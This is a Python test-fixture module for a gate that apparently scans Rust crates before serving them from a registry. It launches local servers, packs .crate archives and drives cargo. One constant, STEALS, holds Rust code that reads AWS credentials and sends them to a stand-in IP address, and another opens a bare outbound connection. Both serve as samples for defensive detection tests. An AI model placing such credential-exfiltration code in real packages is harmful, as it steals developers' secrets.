"""A real gate on the loopback address, before a real registry that can be told to misbehave."""

from __future__ import annotations

import gzip
import importlib.util
import io
import json
import os
import subprocess
import sys
import tarfile
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any, cast

import pytest
import uvicorn

from analyzer.config import RegistryAccess
from gate.gate import Gate
from gate.settings import CRATES_IO, GateSettings, Mount
from gate.web.app import App
from gate.web.protocol import GuardedProtocol

if TYPE_CHECKING:
    from tests.unit.registry.conftest import Servers, SparseServer

OLD = "2025-01-01T00:00:00Z"
STEALS = """use std::io::Write;
fn main() {
    let key = std::fs::read("/home/u/.aws/credentials").unwrap();
    let mut to = std::net::TcpStream::connect("198.51.100.7:443").unwrap();
    to.write_all(&key).unwrap();
}
"""
FETCHES = """fn main() {
    let _ = std::net::TcpStream::connect("203.0.113.9:80");
}
"""


def _registry_tests() -> Any:
    """The module with the registry that tests of the client use."""
    path = Path(__file__).parents[1] / "unit/registry/conftest.py"
    spec = importlib.util.spec_from_file_location("sparse_server", path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules["sparse_server"] = module
    spec.loader.exec_module(module)
    return module


sparse = _registry_tests()


def packed(name: str, version: str, files: Mapping[str, str] | None = None) -> bytes:
    """A `.crate` of a library with these files."""
    whole = {"src/lib.rs": "pub fn one() -> u8 { 1 }\n", **(files or {})}
    build = 'build = "build.rs"\n' if "build.rs" in whole else ""
    manifest = f'[package]\nname = "{name}"\nversion = "{version}"\nedition = "2021"\n{build}'
    whole.setdefault("Cargo.toml", manifest)
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for path, text in sorted(whole.items()):
            member = tarfile.TarInfo(f"{name}-{version}/{path}")
            member.size = len(text.encode())
            tar.addfile(member, io.BytesIO(text.encode()))
    return gzip.compress(data.getvalue(), mtime=0)


@dataclass
class Reply:
    """What a client got."""

    status: int
    body: bytes
    headers: Mapping[str, str]

    @property
    def text(self) -> str:
        return self.body.decode()


@dataclass
class Live:
    """A gate that serves, its upstream, and a client for both."""

    gate: Gate
    upstream: SparseServer
    url: str
    home: Path
    stop: Callable[[], None] = field(default=lambda: None)

    def publish(
        self, name: str, version: str, files: Mapping[str, str] | None = None, **fields: object
    ) -> str:
        """Put a release into the upstream; its checksum."""
        data = packed(name, version, files)
        return self.upstream.publish(name, version, data, **{"pubtime": OLD, **fields})

    def get(
        self, path: str, method: str = "GET", body: bytes | None = None, /, **headers: str
    ) -> Reply:
        """Ask the gate; `if_none_match` is the header `If-None-Match`."""
        named = {key.replace("_", "-"): value for key, value in headers.items()}
        request = urllib.request.Request(self.url + path, body, named, method=method)
        try:
            with urllib.request.urlopen(request, timeout=60) as answer:
                return Reply(answer.status, answer.read(), dict(answer.headers))
        except urllib.error.HTTPError as error:
            return Reply(error.code, error.read(), dict(error.headers))

    def index(self, name: str) -> list[dict[str, Any]]:
        """The lines of an index file as the gate serves them."""
        folder = {1: "1", 2: "2", 3: f"3/{name[0]}"}.get(len(name), f"{name[:2]}/{name[2:4]}")
        answer = self.get(f"index/{folder}/{name}")
        assert answer.status == 200, answer.text
        return [json.loads(one) for one in answer.body.split(b"\n") if one]

    def archive(self, name: str, version: str, sha256: str) -> Reply:
        """Download a release; asks again while it is being read."""
        for _ in range(20):
            answer = self.get(f"crates/{name}/{version}/{sha256}.crate")
            if answer.status != 503:
                break
            time.sleep(0.2)
        return answer

    def cargo(
        self, folder: Path, *arguments: str, **environment: str
    ) -> subprocess.CompletedProcess[str]:
        """A real cargo whose crates.io is the gate."""
        self.home.mkdir(exist_ok=True)
        config = self.home / "config.toml"
        if not config.exists():
            config.write_text(
                '[source.crates-io]\nreplace-with = "gate"\n'
                f'[registries.gate]\nindex = "sparse+{self.url}index/"\n'
            )
        plain = {key: one for key, one in os.environ.items() if not key.lower().endswith("_proxy")}
        return subprocess.run(
            [os.environ.get("CRATESCOPE_TEST_CARGO", "cargo"), *arguments],
            cwd=folder,
            env=plain | {"CARGO_HOME": str(self.home), "CARGO_TERM_COLOR": "never"} | environment,
            capture_output=True,
            text=True,
            timeout=240,
            check=False,
        )

    def project(self, folder: Path, *dependencies: str) -> Path:
        """A package that depends on these (`name = "1"`)."""
        (folder / "src").mkdir(parents=True)
        (folder / "src/lib.rs").touch()
        head = '[package]\nname = "asks"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\n'
        (folder / "Cargo.toml").write_text(head + "\n".join(dependencies) + "\n")
        return folder


def settings_for(upstream: SparseServer, folder: Path, **fields: object) -> GateSettings:
    """Settings of a gate before one registry, that believes nothing for long."""
    mount = Mount(CRATES_IO, RegistryAccess(upstream.url), frozenset({"127.0.0.1"}))
    plain = GateSettings(
        data_dir=folder / "data",
        mounts=(mount,),
        jobs=1,
        index_age_s=0,
        scans_ahead=False,
        upstream_timeout_s=5.0,
        absent_age_s=0.0,
    )
    return replace(plain, **fields)  # type: ignore[arg-type]  # fields of a test


def start(settings: GateSettings, upstream: SparseServer, folder: Path, **fields: Any) -> Live:
    """A gate that serves from a thread of its own."""
    port = free_port()
    gate = Gate(replace(settings, port=port), **fields)
    config = uvicorn.Config(
        App(gate),
        host="127.0.0.1",
        port=port,
        http=GuardedProtocol,
        ws="none",
        lifespan="on",
        log_config=None,
        access_log=False,
        server_header=False,
        proxy_headers=False,
        timeout_graceful_shutdown=5,
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        assert thread.is_alive()
        time.sleep(0.01)

    def stop() -> None:
        server.should_exit = True
        thread.join(60)

    return Live(gate, upstream, f"http://127.0.0.1:{port}/", folder / "home", stop)


def free_port() -> int:
    """A port that nobody listens at."""
    import socket

    with socket.socket() as one:
        one.bind(("127.0.0.1", 0))
        return int(one.getsockname()[1])


@pytest.fixture(scope="module")
def servers() -> Iterator[Servers]:
    """A maker of registries."""
    running = sparse.Servers()
    yield running
    running.stop()


@pytest.fixture(scope="module")
def live(servers: Servers, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    """One gate for a module: tests use crates of their own."""
    folder = tmp_path_factory.mktemp("gate")
    upstream = servers.start()
    one = start(settings_for(upstream, folder), upstream, folder)
    yield one
    one.stop()


@pytest.fixture
def make(servers: Servers, tmp_path: Path) -> Iterator[Callable[..., Live]]:
    """A maker of gates with settings of their own."""
    made: list[Live] = []

    def maker(**fields: object) -> Live:
        upstream = servers.start()
        folder = tmp_path / str(len(made))
        extra = {key: fields.pop(key) for key in ("day", "worker_command") if key in fields}
        more = fields.pop("more_mounts", ())
        told = settings_for(upstream, folder, **fields)
        told = replace(told, mounts=(*told.mounts, *cast("tuple[Mount, ...]", more)))
        made.append(start(told, upstream, folder, **extra))
        return made[-1]

    yield maker
    for one in made:
        one.stop()


class _Told:
    """Only where a gate of its own process listens."""

    def __init__(self, port: int) -> None:
        self.settings = GateSettings(Path(), port=port)


@pytest.fixture
def sparse_live(tmp_path: Path) -> Callable[..., Live]:
    """A client for a gate that runs in a process of its own."""

    def client(upstream: SparseServer) -> Live:
        port = free_port()
        told = cast("Gate", _Told(port))
        return Live(told, upstream, f"http://127.0.0.1:{port}/", tmp_path / "home")

    return client
